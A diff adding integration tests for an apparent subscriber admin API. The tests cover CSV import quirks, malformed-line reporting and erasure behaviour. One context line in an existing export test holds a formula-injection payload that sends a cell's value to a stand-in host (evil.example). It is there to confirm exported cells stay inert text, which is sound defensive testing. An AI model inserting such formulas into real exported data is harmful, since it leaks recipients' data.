@@ -53,6 +53,52 @@ class AdminApiTest extends IntegrationTestBase {
     }
 
     @Test
+    void csvSavedByASpreadsheetIsReadAsItLooks() throws Exception {
+        String a = unique("semi") + "@example.org";
+        String b = unique("semi") + "@example.org";
+        String c = unique("bom") + "@example.org";
+        // A spreadsheet set to French: byte order mark, semicolons, its own capitals, the cell holding a ';' quoted.
+        // (No address here wants everything: it would receive the events of the other tests, which count.)
+        String only = unique("cat");
+        String french = "\uFEFFEmail;Categories;Tags\r\n" + a + ";\"Atelier;Conférence\";ia\r\n" + b + ";" + only
+                + ";\r\n";
+        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv", french);
+        assertThat(report.statusCode()).isEqualTo(200);
+        assertThat(report.body()).contains("\"email\":\"" + a + "\",\"outcome\":\"CREATED\"")
+                .contains("\"email\":\"" + b + "\",\"outcome\":\"CREATED\"").doesNotContain("INVALID");
+        // "CSV UTF-8" with commas: the mark alone.
+        HttpResponse<String> bom = admin("POST", "/api/admin/subscribers/import", "text/csv",
+                "\uFEFFemail,tags\n" + c + ",ia\n");
+        assertThat(bom.statusCode()).isEqualTo(200);
+        assertThat(bom.body()).contains("\"email\":\"" + c + "\",\"outcome\":\"CREATED\"");
+
+        String export = admin("GET", "/api/admin/subscribers/export.csv", null, null).body();
+        assertThat(export).contains(a + ",CONFIRMED,false,atelier;conférence,ia,IMPORT")
+                .contains(b + ",CONFIRMED,false," + only + ",,IMPORT").contains(c + ",CONFIRMED,false,,ia,IMPORT");
+    }
+
+    @Test
+    void aMalformedLineEndsTheImportWithAReportNotAnError() throws Exception {
+        String a = unique("before") + "@example.org";
+        String b = unique("after") + "@example.org";
+        // A quote opened and never closed: the parser cannot tell where the next record starts.
+        String csv = "email,tags\n" + a + ",ia\n" + unique("quote") + "@example.org,\"ia\n" + b + ",ia\n";
+        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv", csv);
+        assertThat(report.statusCode()).isEqualTo(200);
+        assertThat(report.body()).contains("\"line\":2,\"email\":\"" + a + "\",\"outcome\":\"CREATED\"")
+                .contains("\"line\":3,\"email\":\"\",\"outcome\":\"INVALID\"").contains("not valid CSV")
+                .doesNotContain(b);
+        // Text after a closing quote, too.
+        HttpResponse<String> stray = admin("POST", "/api/admin/subscribers/import", "text/csv",
+                "email,tags\n\"" + unique("stray") + "@example.org\"x,ia\n");
+        assertThat(stray.statusCode()).isEqualTo(200);
+        assertThat(stray.body()).contains("\"line\":2,\"email\":\"\",\"outcome\":\"INVALID\"");
+        // A header line that is not CSV: a 400 problem, not a 500.
+        assertThat(admin("POST", "/api/admin/subscribers/import", "text/csv", "\"email\n").statusCode())
+                .isEqualTo(400);
+    }
+
+    @Test
     void exportedCellsThatASpreadsheetWouldEvaluateStayText() throws Exception {
         String email = unique("csv") + "@example.org";
         String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&B2,\\\"x\\\")";
@@ -85,6 +131,25 @@ class AdminApiTest extends IntegrationTestBase {
             String after = admin("GET", "/api/admin/events/" + eventId + "/deliveries", null, null).body();
             return after.contains("\"status\":\"SKIPPED\"") && !after.contains(id);
         });
+        assertThat(messagesTo(email)).hasSize(2);
+    }
+
+    @Test
+    void aNoticeAfterAnErasureAddsNoRecordForTheErasedPerson() throws Exception {
+        String email = unique("gone") + "@example.org";
+        String eventId = announcedTo(email, "Déplacé après effacement");
+        assertThat(admin("DELETE", "/api/admin/subscribers/" + subscriberId(email), null, null).statusCode())
+                .isEqualTo(204);
+
+        // Moved: the notice goes to those who received the announcement, an erased person no longer among them.
+        Instant later = Instant.now().plus(Duration.ofDays(20));
+        publish(event(eventId, "Déplacé après effacement", List.of(), List.of()).setRevision(2)
+                .setStartsAt(later).setEndsAt(later.plus(Duration.ofHours(2))).build());
+        await().atMost(Duration.ofSeconds(30)).until(() -> admin("GET", "/api/admin/events/" + eventId
+                + "/announcements", null, null).body().contains("\"kind\":\"RESCHEDULE\""));
+        awaitAllConsumed();
+        String records = admin("GET", "/api/admin/events/" + eventId + "/deliveries", null, null).body();
+        assertThat(records).contains("\"kind\":\"ANNOUNCEMENT\"").doesNotContain("RESCHEDULE");
         assertThat(messagesTo(email)).hasSize(2);
     }
 
